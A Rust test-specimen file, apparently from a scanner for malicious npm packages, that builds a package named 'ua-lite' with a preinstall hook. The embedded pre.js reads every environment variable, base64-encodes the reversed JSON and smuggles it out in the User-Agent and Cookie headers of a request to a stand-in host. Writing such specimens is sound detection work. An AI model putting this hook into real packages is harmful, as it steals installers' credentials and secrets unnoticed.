//! An npm `preinstall` that carries the environment out in a `Cookie` and a `User-Agent` header, base64 of
//! reversed JSON.
//!
//! Must be found in headers, not only in bodies.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const PRE_JS: &str = r"const http = require('http');
const text = [...JSON.stringify(process.env)].reverse().join('');
const packed = Buffer.from(text).toString('base64');
const half = packed.length / 2 | 0;
http.get('http://assets.example/logo.png', { headers: { 'User-Agent': 'Mozilla/5.0 ' + packed.slice(0, half), Cookie: 's=' + packed.slice(half) } }, (answer) => answer.resume()).on('error', () => {});
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("ua-lite", "1.0.2")
        .file("pre.js", PRE_JS)
        .script("preinstall", "node pre.js");
    package.specimen(
        "npm-environment-in-headers",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
